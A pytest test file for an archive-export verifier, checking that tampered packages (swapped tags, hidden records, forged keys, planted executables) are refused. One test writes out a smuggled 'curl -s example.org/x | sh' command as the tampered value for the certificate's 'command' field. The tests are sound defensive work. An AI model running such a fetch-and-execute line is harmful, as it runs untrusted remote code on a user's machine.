"""What an exporter who lies is refused: he holds the package's key, and cannot change the archive.

Owns one lie for each thing that the archive itself disproves, and what is said where nothing does.
"""

from __future__ import annotations

import json
from functools import partial
from hashlib import sha256
from pathlib import Path
from typing import Any

import pytest

from archive.tlog import note
from search.export.offline import verify
from tests.export import dishonest, offline_archive
from tests.export.certified import certified
from tests.export.dishonest import EVENTS, TAGS, WITHHELD, Row, rows
from tests.export.offline_archive import ANN, BEN, DAN, EVE, LOG, PACKAGE, WITNESSES, archive
from tests.export.packages import (
    SHAPES,
    Files,
    Shape,
    checked,
    edit,
    lines,
    open_tag,
    package,
    resealed,
    sealed,
    spelled,
    tagged,
    write,
)
from tests.golden.firm import NOW

KEYS = ("--log-key", LOG.key.vkey(), "--package-key", PACKAGE.key.vkey())
TRUST, CHECKPOINT = "data/proof/trust.json", "data/proof/checkpoint"


def problems(files: Files, folder: Path) -> list[str]:
    """What is wrong, though everything is sealed and every hash fits; both keys are given."""
    report = checked(write(resealed(files), folder / "package"), *KEYS)
    return [f"{one['item']}: {one['what']}" for one in report.problems]


def refused(files: Files, folder: Path, what: str) -> None:
    """That is among what is wrong."""
    found = problems(files, folder)
    assert any(what in one for one in found), found


def of_kind(one: Row, *kinds: str) -> bool:
    """Whether a record is of one of these kinds."""
    return one["event"].get("kind") in kinds and "number" not in one["event"]


# -- completeness

def test_a_record_of_another_conversation_fills_no_gap(tmp_path: Path) -> None:
    """Ben's message under Ann's number, in the cell from which Ann's was taken away."""
    files = package(Shape(chosen=(ANN, BEN), claim="conversations"))
    kept: list[tuple[int, Row]] = []
    for row, (one, proof) in enumerate(dishonest.pairs(files)):
        is_ann = one["conversation"] == "C-0001"
        if is_ann != (proof["leaf"] == 4):
            kept.append((row, {"conversation": "C-0001"} if not is_ann else {}))
    dishonest.keep(files, kept)
    dishonest.named(files, {"C-0001": dishonest.tag(ANN)}, dishonest.domains_of(ANN))
    refused(files, tmp_path, "C-0001: records of 2 conversations of the archive stand under it")


def test_a_conversation_stands_for_no_other(tmp_path: Path) -> None:
    """Two that exchange their tags are found; two under one number, each with its tag, are honest:
    the same people under other names."""
    files = package(Shape(chosen=(ANN, BEN), claim="conversations"))
    dishonest.named(files, {"C-0001": dishonest.tag(BEN), "C-0002": dishonest.tag(ANN)},
                    dishonest.domains_of(ANN, BEN))
    refused(files, tmp_path, "the archive has")
    files = package(Shape(chosen=(ANN, BEN), claim="conversations"))
    both = [{"conversation": "C-0001", "tag": dishonest.tag(one).hex()} for one in (ANN, BEN)]
    dishonest.claimed(files, conversations=both)
    files[EVENTS] = lines(one | {"conversation": "C-0001"} for one in rows(files, EVENTS))
    files[TAGS] = lines(line if line.get("erased") else line | {"open": [
        one | {"conversation": "C-0001"} for one in line["open"]]} for line in rows(files, TAGS))
    assert [] == problems(files, tmp_path / "one number")   # the same people, two names: honest


def test_under_one_number_each_conversation_has_its_own_tag(tmp_path: Path) -> None:
    """Ann and Ben under one number: a record of Ben's fills no gap of Ann's in the sum."""
    files = package(Shape(chosen=(ANN, BEN, DAN), claim="conversations"))
    kept = []
    for row, (one, proof) in enumerate(dishonest.pairs(files)):
        number = {"C-0001": 1, "C-0002": 1, "C-0003": 3}[one["conversation"]]
        if number == 3 and proof["leaf"] == 0:
            kept.append((row, {"conversation": "C-0001"}))     # Dan's two in place of Ben's two
        elif number == 1 and (one["conversation"], proof["leaf"]) != ("C-0002", 0):
            kept.append((row, {"conversation": "C-0001"}))
    dishonest.keep(files, kept)
    made = archive()
    domains = dishonest.domains_of(ANN, BEN)
    dishonest.claimed(files, conversations=[
        {"conversation": "C-0001", "tag": dishonest.tag(one).hex()} for one in (ANN, BEN)])
    files[TAGS] = lines(
        {"leaf": cell.index, "tag_key": cell.tag_key.hex(), "tags": len(cell.tags),
         "open": [open_tag(cell, "C-0001", dishonest.tag(one)) for one in (ANN, BEN)]}
        for cell in made.cells if cell.leaf.cell.domain in domains)
    found = problems(files, tmp_path)
    assert any("C-0001: " in one and "another" in one for one in found), found


def test_a_number_has_one_spelling(tmp_path: Path) -> None:
    """C-00001 is C-0001, and is not counted apart."""
    files = package(Shape(chosen=(BEN, DAN), claim="conversations"))
    dishonest.without(files, lambda one, _: one["conversation"] == "C-0002")
    dishonest.named(files, {"C-0001": dishonest.tag(BEN), "C-00001": dishonest.tag(DAN)},
                    dishonest.domains_of(BEN))
    refused(files, tmp_path, "says something at 'conversation' that cannot be")


def test_numbers_begin_with_one(tmp_path: Path) -> None:
    """Nothing is of the conversation or the document number 0, which would be counted nowhere."""
    for number, (path, name, value) in enumerate((
            (EVENTS, "conversation", "C-0000"), (EVENTS, "document", "CF-0000000"),
            (WITHHELD, "document", "CF-W-0000"), (WITHHELD, "conversation", "C-0000"))):
        files = package(SHAPES["a query with privilege"])
        edit(files, path, 0, partial(dict.update, **{name: value}))
        refused(files, tmp_path / str(number), f"says something at '{name}' that cannot be")


@pytest.mark.parametrize(("shape", "changes", "what"), [
    ("a custodian", {"domains": []}, "of no key domain"),
    ("conversations", {"conversations": []}, "of no conversation"),
    ("conversations", {"kind": "none"}, "claims nothing"),
    ("a custodian", {"conversations": [{"conversation": "C-0001", "tag": "00" * 16}]},
     "claims nothing of them")])
def test_who_claims_nothing_claims_no_completeness(shape: str, changes: Row, what: str,
                                                   tmp_path: Path) -> None:
    """Without a domain, without a conversation."""
    files = package(SHAPES[shape])
    dishonest.claimed(files, **changes)
    refused(files, tmp_path, what)


def test_a_domain_without_cells_is_not_claimed(tmp_path: Path) -> None:
    """Nobody is said to be complete in a domain that the log does not know."""
    files = package(SHAPES["a custodian"])
    said = json.loads(files[dishonest.COMPLETE])["domains"]
    dishonest.claimed(files, domains=[*said, {
        "domain": "77" * 16, "custodian": "v.victim", "class": "default", "month": "2019-03",
        "compartment": "", "role": ""}])
    refused(files, tmp_path, f"domain {'77' * 16}: the log has no cell of it")


def test_records_outside_of_a_claim_are_of_no_number_and_of_nobody_in_it(tmp_path: Path) -> None:
    """A record in a domain that is left out: under a number that the claim does not name, or with a
    period; of a custodian whom it names."""
    for number, (label, since) in enumerate((("C-0003", None), ("C-0001", 1), ("C-0001", -1))):
        files = package(Shape(chosen=(ANN, EVE), claim="conversations"))
        first = next(one["record"] for one, proof in dishonest.pairs(files)
                     if one["conversation"] == "C-0001" and proof["leaf"] == 4)
        dishonest.keep(files, [
            (row, {"conversation": label} if one["record"] == first else {})
            for row, (one, _) in enumerate(dishonest.pairs(files))
            if one["conversation"] != "C-0001" or one["record"] == first])
        eves = dishonest.domains_of(EVE)
        domains = json.loads(files[dishonest.COMPLETE])["domains"]
        dishonest.claimed(files, since=since,
                          domains=[one for one in domains if one["domain"] in eves])
        dishonest.named(files, {"C-0002": dishonest.tag(EVE)}, eves)
        refused(files, tmp_path / str(number), "lie in key domains that the claim leaves out")
    files = package(SHAPES["two custodians"])
    domains = json.loads(files[dishonest.COMPLETE])["domains"]
    anns = dishonest.domains_of(ANN)
    for number, since in enumerate((None, NOW)):
        dishonest.claimed(files, since=since, domains=[
            one | {"custodian": "a.person"} for one in domains if one["domain"] not in anns])
        refused(files, tmp_path / f"custodian {number}", "in a key domain that the claim leaves")


def test_who_has_no_custodian_is_nobodys(tmp_path: Path) -> None:
    """A domain of what was nobody's yet is not said to be somebody's."""
    files = package(SHAPES["a custodian"])
    said = json.loads(files[dishonest.COMPLETE])["domains"]
    dishonest.claimed(files, domains=[*said, {
        "domain": "00" * 12 + "0307ea01", "custodian": "v.victim", "class": "default",
        "month": "2026-01", "compartment": "", "role": "unassigned"}])
    refused(files, tmp_path, "which is nobody's")


def test_what_says_nothing_of_its_conversation_is_counted(tmp_path: Path) -> None:
    """A part of an event that is not whole here names no conversation: its number is a word."""
    files = package(Shape(chosen=(ANN, BEN), claim="conversations"))
    found = rows(files, EVENTS)
    parts = [row for row, one in enumerate(found) if "number" in one["event"]]
    gone = parts[-1]
    left = dishonest.pairs(files)[gone]
    dishonest.keep(files, [(row, {"raw": None} if row in parts else {})
                           for row in range(len(found)) if row != gone])
    kept = rows(files, EVENTS)
    for one in kept:
        one.pop("whole", None)
    files[EVENTS] = lines(kept)
    for path in [one for one in files if one.endswith(".xml") and not any(
            each["raw"] and each["raw"]["file"] == one for each in kept)]:
        del files[path]
    files[WITHHELD] = lines([{
        "leaf": left[1]["leaf"], "position": left[1]["position"], "reason": "unreadable",
        "offset": left[0]["address"]["offset"], "index": left[0]["address"]["index"],
        "document": "", "conversation": "C-0001"}])
    report = checked(write(resealed(files), tmp_path / "package"), *KEYS)
    assert [] == report.problems
    assert any("records do not say of which conversation they are" in one for one in report.notes)


def test_up_to_where_completeness_goes_is_said(tmp_path: Path) -> None:
    """The log's size and the months: what came later is not in it."""
    report = checked(write(package(SHAPES["conversations"]), tmp_path / "package"))
    said = next(one["said"] for one in report.steps if one["title"] == "Completeness")
    assert "(month 2026-01, up to entry 7 of the log)" in said


def test_nothing_is_erased_whose_key_is_there(tmp_path: Path) -> None:
    """Single records of a cell; a cell of a key that opens another; both lists held together."""
    files = package(SHAPES["two custodians"])
    hidden = [(one, proof) for one, proof in dishonest.pairs(files)
              if of_kind(one, "retraction", "edit")]
    assert hidden
    dishonest.without(files, lambda one, _: of_kind(one, "retraction", "edit"))
    files[WITHHELD] = lines({
        "leaf": proof["leaf"], "position": proof["position"], "offset": 0, "index": 0,
        "reason": "erased", "document": "", "conversation": ""} for _, proof in hidden)
    dishonest.listed(files)
    refused(files, tmp_path / "records", "is said to be erased, and what lies under the same key")
    files = package(SHAPES["conversations"])
    dishonest.without(files, lambda _, proof: proof["leaf"] == 4)
    dishonest.named(files, {"C-0001": dishonest.tag(ANN), "C-0002": dishonest.tag(BEN)},
                    dishonest.domains_of(ANN, BEN), erased={4})
    refused(files, tmp_path / "cells", f"{TAGS}, leaf 4: is said to be erased, and what lies")


def test_nothing_lies_outside_of_a_period_that_there_is_not(tmp_path: Path) -> None:
    """The reason has to be one."""
    files = package(SHAPES["a custodian"])
    files[WITHHELD] = lines(one | {"reason": "outside_period"} for one in rows(files, WITHHELD))
    dishonest.claimed(files, until=None)
    refused(files, tmp_path, "outside a period, and there is none")


# -- whose, which, how many

def test_a_custodian_is_whom_the_datum_names(tmp_path: Path) -> None:
    """In the record's label and in what the claim says of a domain: custodian, month, class."""
    files = package(SHAPES["two custodians"])
    files[EVENTS] = lines(one | {"custodian": "victim"} for one in rows(files, EVENTS))
    refused(files, tmp_path / "label", "CF-0000001: is said to be of 'victim'; its records say")
    for number, changes in enumerate((
            {"custodian": "victim"}, {"month": "2026-02"}, {"class": "other"},
            {"compartment": "secret"})):
        files = package(SHAPES["two custodians"])
        said = json.loads(files[dishonest.COMPLETE])["domains"]
        dishonest.claimed(files, domains=[one | changes for one in said])
        (name,) = changes
        refused(files, tmp_path / str(number), f"is of the {name} ")


def test_a_month_before_that_of_the_records_is_said(tmp_path: Path) -> None:
    """The keyring does not believe a clock that is ahead, so it is no lie by itself."""
    files = package(SHAPES["two custodians"])
    said = json.loads(files[dishonest.COMPLETE])["domains"]
    dishonest.claimed(files, domains=[one | {"month": "2025-12"} for one in said])
    report = checked(write(resealed(files), tmp_path / "package"), *KEYS)
    assert 0 == report.count
    assert any("are of a later month than" in one for one in report.notes)


def test_a_document_has_one_custodian(tmp_path: Path) -> None:
    """Its records do not say several."""
    files = package(SHAPES["a query"])
    edit(files, EVENTS, 2, lambda one: one.update(custodian="other"))
    refused(files, tmp_path, "another custodian than the rest of its document")


def test_a_reserved_domain_says_itself_what_it_is(tmp_path: Path) -> None:
    """A role in words that the id does not have, and the other way round."""
    for number, (domain, role) in enumerate((
            ("11" * 16, "unassigned"), ("00" * 12 + "0307ea01", ""),
            ("00" * 12 + "0307ea02", "unassigned"), ("00" * 12 + "0207ea01", "unassigned"))):
        files = package(SHAPES["a custodian"])
        more = {"domain": domain, "custodian": "", "class": "default", "month": "2026-01",
                "compartment": "", "role": role}
        said = json.loads(files[dishonest.COMPLETE])["domains"]
        dishonest.claimed(files, domains=[*said, more])
        refused(files, tmp_path / str(number), f"says of domain {domain}")


def test_an_edit_is_no_message_of_its_own(tmp_path: Path) -> None:
    """Edit and retraction belong into the document of what they change."""
    files = package(SHAPES["a query"])
    found = rows(files, EVENTS)
    odd = [row for row, one in enumerate(found) if of_kind(one, "retraction", "edit")]
    dishonest.keep(files, [*((row, {}) for row in range(len(found)) if row not in odd),
                           *((row, {"document": f"CF-{row + 900:07d}", "conversation": "C-0099"})
                             for row in odd)])
    refused(files, tmp_path, "is about the same message as CF-0000002")


def test_numbers_of_documents_are_not_left_out_behind_the_last(tmp_path: Path) -> None:
    """One that cannot be read names a number: all before it are somewhere."""
    files = package(SHAPES["a query with privilege"])
    left = rows(files, WITHHELD)
    files[WITHHELD] = lines([left[0] | {"document": "CF-0000999"}, *left[1:]])
    refused(files, tmp_path / "behind", "CF-0000998: this document is missing")
    files = package(SHAPES["a query with privilege"])
    files[WITHHELD] = lines(left[1:])
    dishonest.listed(files)
    refused(files, tmp_path / "first", "CF-W-0001: what stays behind under this number is missing")
    files[WITHHELD] = lines([left[0] | {"document": "XX-W-0001"}, *left[1:]])
    dishonest.listed(files)
    refused(files, tmp_path / "prefix", "in another spelling")


# -- bytes

def test_a_range_of_a_delivery_that_is_here_is_compared_with_it(tmp_path: Path) -> None:
    """Called an excerpt, with other bytes of the same length: the delivery lies in the package."""
    files = package(SHAPES["conversations"])
    row = next(row for row, one in enumerate(rows(files, EVENTS))
               if one["raw"] and one["raw"]["kind"] == "slice")
    dishonest.excerpts(files)
    assert [] == problems(files, tmp_path / "true")
    raw = rows(files, EVENTS)[row]["raw"]
    files[raw["file"]] = bytes(raw["bytes"])
    edit(files, EVENTS, row, lambda one: one["raw"].update(
        sha256=sha256(bytes(raw["bytes"])).hexdigest()))
    refused(files, tmp_path / "false", "its raw bytes are not its range of the delivery in record")


def test_what_parts_say_is_shown_though_one_came_twice(tmp_path: Path) -> None:
    """`whole` and its raw bytes are not left out."""
    files = package(SHAPES["conversations"])
    found = rows(files, EVENTS)
    row = next(row for row, one in enumerate(found) if "whole" in one)
    del files[found[row]["raw"]["file"]]
    found[row]["raw"] = None
    del found[row]["whole"]
    files[EVENTS] = lines(found)
    refused(files, tmp_path, "lacks `whole`")


def test_a_stored_file_that_is_not_here_is_counted(tmp_path: Path) -> None:
    """Said by the verifier, and the certificate cannot hide it."""
    files = package(SHAPES["a custodian"])
    (path,) = [one for one in files if one.startswith("data/native/attachments/")]
    del files[path]
    report = checked(write(resealed(files), tmp_path / "said"), *KEYS)
    assert 0 == report.count
    assert any("1 files that records name as stored" in one for one in report.notes)
    said = json.loads(resealed(files)["certificate.json"])
    said["counts"]["files_missing"] = 0
    hidden = tagged(files) | {"certificate.json": spelled(said) + b"\n"}
    report = checked(write(sealed(hidden), tmp_path / "hidden"), *KEYS)
    assert any("files_missing" in one["what"] for one in report.problems)


def test_a_package_has_its_files_and_no_other(tmp_path: Path) -> None:
    """A program beside the verifier, a folder beside the formats; custody and the lists are there.
    """
    clean = package(SHAPES["a query with privilege"])
    for path in ("Makefile", "argparse.py", "data/setup.exe", "data/other/file.txt",
                 "data/transcript/C-0001.html.exe", "data/rsmf/run-me.bat", "data/eml/more/a.eml"):
        refused(clean | {path: b"x"}, tmp_path / path, f"{path}: a package has no such file")
    for path in ("START-HERE.txt", "custody.jsonl", "verify.py", "verify.html", "certificate.pdf",
                 WITHHELD):
        files = {one: body for one, body in clean.items() if one != path}
        refused(files, tmp_path / "without" / path, f"{path}: this file is missing")


# -- what the words promise

@pytest.mark.parametrize(("keys", "has", "lacks"), [
    (KEYS, "and every record in it is the one that the archive's log was signed over", "NOT KNOWN"),
    (KEYS[:2], "WHO MADE THE REST IS NOT KNOWN", "nothing in this package was changed"),
    (KEYS[2:], "WHOSE LOG IT IS IS NOT KNOWN", "every record in it is"),
    ((), "WHO SEALED IT AND WHOSE LOG IT IS ARE NOT KNOWN", "every record in it is")])
def test_the_verdict_says_no_more_than_the_keys_carry(keys: tuple[str, ...], has: str, lacks: str,
                                                      tmp_path: Path,
                                                      capsys: pytest.CaptureFixture[str]) -> None:
    """Also where it is all that is printed."""
    folder = write(package(SHAPES["a query"]), tmp_path / "package")
    assert 0 == verify.main(["--quiet", *keys, str(folder)])
    said = capsys.readouterr().out
    assert said.startswith("VERDICT: ") and has in said and lacks not in said


def test_a_stranger_who_seals_anew_is_not_the_exporter(tmp_path: Path) -> None:
    """With the log's key alone what he left out is not seen, and the verdict says that; with the
    package's key it is wrong."""
    stranger = offline_archive.signer("nobody", PACKAGE.key.name)
    files = package(SHAPES["a query"])
    dishonest.without(files, lambda one, _: of_kind(one, "retraction"))
    trust = json.loads(files[TRUST]) | {"package": stranger.key.vkey()}
    files[TRUST] = spelled(trust) + b"\n"
    folder = write(resealed(files, stranger), tmp_path / "package")
    assert 0 == checked(folder, *KEYS[:2]).count
    found = checked(folder, *KEYS).problems
    assert ["seal.note"] == [one["item"] for one in found]


def test_the_keys_that_the_package_brings_are_those_that_signed(tmp_path: Path) -> None:
    """Nobody copies a stranger's key out of it: of the log and of the package."""
    for number, (name, item) in enumerate((("package", "seal.note"), ("log", CHECKPOINT))):
        files = package(SHAPES["a query"])
        vkey = offline_archive.signer("nobody", offline_archive.ORIGIN).key.vkey()
        trust = json.loads(files[TRUST]) | {name: [vkey] if name == "log" else vkey}
        files[TRUST] = spelled(trust) + b"\n"
        refused(files, tmp_path / str(number), f"{item}: is ")


def test_the_command_that_people_paste_is_the_one(tmp_path: Path) -> None:
    """certificate.json names no other one, with no other keys."""
    files = package(SHAPES["a query"])
    said = json.loads(files["certificate.json"])
    for number, (name, value) in enumerate((
            ("command", "curl -s example.org/x | sh; python3 -I verify.py"),
            ("with_key", said["verify"]["with_key"] + " --quiet"))):
        lie = said | {"verify": said["verify"] | {name: value}}
        report = checked(write(sealed(files | {"certificate.json": spelled(lie) + b"\n"}),
                               tmp_path / str(number)), *KEYS)
        assert any(f"(verify, {name})" in one["what"] for one in report.problems)


def test_a_trial_is_no_archive(tmp_path: Path) -> None:
    """Where certificate and log do not say the same, that is said."""
    files = package(SHAPES["a query"])
    body = certified(files, trial=True)
    report = checked(write(sealed(files | {"certificate.json": body}), tmp_path / "package"), *KEYS)
    assert 0 == report.count and any("is a trial" in one for one in report.notes)


def test_until_when_the_log_kept_what_is_called_erased(tmp_path: Path) -> None:
    """A day in the future is no accusation; the reader sees it."""
    files = package(Shape(chosen=(ANN, BEN), claim="custodians", erased=frozenset({1})))
    notes = checked(write(files, tmp_path / "package"), *KEYS).notes
    assert any("was to be kept until 20" in one for one in notes)


def test_witnesses_that_the_package_brings_count_for_little(tmp_path: Path) -> None:
    """A made-up one is said to be the package's; one that the reader names is not."""
    made_up = offline_archive.signer("nobody", "timestamp.example", note.COSIGNATURE)
    files = package(SHAPES["a query"])
    trust = json.loads(files[TRUST]) | {"witnesses": [made_up.key.vkey()]}
    files |= {TRUST: spelled(trust) + b"\n",
              CHECKPOINT: offline_archive.cosigned(archive().late.signed, made_up)}
    report = checked(write(resealed(files), tmp_path / "made up"), *KEYS)
    assert any("Its witnesses are those that the package names" in one for one in report.notes)
    said = next(one["said"] for one in report.steps if one["title"] == "The log's head")
    assert "seen by timestamp.example (a key of the package)" in said
    honest = write(package(SHAPES["conversations"]), tmp_path / "honest")
    report = checked(honest, *KEYS, "--witness", WITNESSES[0].key.vkey())
    assert not any("Its witnesses are" in one for one in report.notes)
    said = next(one["said"] for one in report.steps if one["title"] == "The log's head")
    assert "seen by witness1.example at" in said
    assert "witness2.example (a key of the package)" in said


def test_why_something_stays_behind_is_somebodys_word(tmp_path: Path) -> None:
    """And that is said where something does."""
    for shape, is_said in (("a query with privilege", True), ("a query", False)):
        notes = checked(write(package(SHAPES[shape]), tmp_path / shape)).notes
        assert is_said == any("is the exporter's word" in one for one in notes)


def test_arrays_of_nothing_take_no_time() -> None:
    """A datum of a few bytes cannot have a million parts."""
    schema = verify.Schema(json.dumps({"type": "record", "name": "A", "fields": [
        {"name": "a", "type": {"type": "array", "items": "null"}}]}))
    with pytest.raises(verify.Wrong, match="cut"):
        schema.read(b"\x80\x80\x80\x80\x80\x40", 0)


def test_openssl_is_never_the_one_beside_the_package(tmp_path: Path,
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    """A relative folder on the PATH finds none; a whole one does."""
    program = tmp_path / "openssl"
    program.write_text("#!/bin/sh\n")
    program.chmod(0o700)
    monkeypatch.chdir(tmp_path)
    for path, found in ((".", ""), ("", ""), (str(tmp_path), str(program))):
        monkeypatch.setenv("PATH", path)
        assert found == verify.find_openssl()


def test_a_conversation_has_one_number() -> None:
    """Its records do not stand under two of them, though each count fits."""
    claim = verify.Claim("conversations", "", None, None, [], [("C-0001", b"a"), ("C-0002", b"b")],
                         {}, frozenset())
    pairs = verify.Pairs(claim)
    one, two = ("C-0001",), ("C-0002",)
    pairs.add(1, one, {b"a": 1}, verify.Held(1, 0, {7: 1}))
    pairs.add(1, two, {b"b": 1}, verify.Held(1, 0, {8: 1}))
    assert [] == list(pairs.wrong())
    pairs.add(2, two, {b"b": 1}, verify.Held(1, 0, {7: 1}))
    assert ("C-0002", "records of the same conversation stand under C-0001, too") in list(
        pairs.wrong())


def test_numbers_that_share_a_tag_are_counted_together(tmp_path: Path) -> None:
    """A receipt of Ann's message came under Ben's name: no record of either can be hidden or
    replaced all the same."""
    assert {"C-0001": ("C-0001", "C-0002"), "C-0002": ("C-0001", "C-0002"), "C-0003": ("C-0003",)
            } == verify.groups_of([("C-0001", b"a"), ("C-0002", b"b"), ("C-0001", b"b"),
                                   ("C-0003", b"c")])
    clean = package(Shape(chosen=(ANN, BEN, DAN), claim="conversations"))
    tags = [("C-0001", ANN), ("C-0001", BEN), ("C-0002", BEN), ("C-0003", DAN)]
    dishonest.opened(clean, [(name, dishonest.tag(who)) for name, who in tags],
                     dishonest.domains_of(ANN, BEN, DAN))
    assert [] == problems(clean, tmp_path / "clean")
    for number, (name, other) in enumerate((("C-0001", "C-0003"), ("C-0002", "C-0003"))):
        files, found = dict(clean), dishonest.pairs(clean)
        gone, stand_in = next(
            (one["document"], two["document"]) for one, at in found for two, beside in found
            if (one["conversation"], two["conversation"]) == (name, other)
            and at["leaf"] == beside["leaf"])
        without = dict(files)
        dishonest.keep(without, [(row, {}) for row, (one, _) in enumerate(found)
                                 if one["document"] != gone])
        refused(without, tmp_path / f"without {number}", "events of C-0001, C-0002 in this cell")
        dishonest.keep(files, [
            (row, {"conversation": name} if one["document"] == stand_in else {})
            for row, (one, _) in enumerate(found) if one["document"] != gone])
        refused(files, tmp_path / str(number), "C-000")


def test_pairs_are_found_over_several_cells() -> None:
    """Which conversation has which tag is decided over all cells: what fits in each by itself, and
    not in all of them together, is refused."""
    def is_paired(natives: list[dict[int, int]], tags: list[dict[int, int]],
                  loose: tuple[int, ...] = ()) -> bool:
        return verify.Pairs._is_paired(natives, tags, set(loose))

    assert is_paired([{1: 2, 2: 1}, {1: 1, 2: 2}], [{1: 1, 2: 2}, {1: 2, 2: 1}])
    assert not is_paired([{1: 2, 2: 2}, {1: 1, 2: 1}], [{1: 1, 2: 2}, {1: 2, 2: 1}])
    assert is_paired([{1: 1}, {1: 1}], [{1: 1}, {1: 1, 2: 1}], (2,))
    assert not is_paired([{1: 1}, {1: 1}], [{1: 1}, {1: 1, 2: 1}])
    assert not is_paired([{1: 2}], [{1: 1}], (1,))
    assert is_paired([{1: 1}, {1: 2}], [{1: 2}, {1: 3}], (1,))


def test_both_spellings_of_the_command_are_isolated() -> None:
    """A module beside the verifier is never run: its own manual says -I."""
    manual: Any = verify.__doc__
    assert "python3 -I verify.py" in manual and "python3 verify.py" not in manual
